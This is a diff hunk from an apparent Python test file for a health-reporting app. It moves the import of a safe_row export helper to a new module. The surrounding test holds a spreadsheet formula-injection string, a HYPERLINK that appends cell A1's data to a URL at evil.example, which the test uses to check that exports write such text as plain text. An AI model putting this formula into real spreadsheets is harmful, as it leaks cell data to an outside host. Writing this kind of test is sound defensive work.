@@ -132,7 +132,7 @@ def test_production_settings_pass_check_deploy(tmp_path: Path) -> None:
 
 def test_xlsx_exports_write_formula_like_text_as_text(demo: Any, persona: Any) -> None:
     from health_f0.his.models import ImportRun
-    from health_f0.reports.xlsx_exports import safe_row
+    from health_f0.reports.common.export import safe_row
 
     evil = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
     ttyt = Facility.objects.get(code="TTYT-HD")
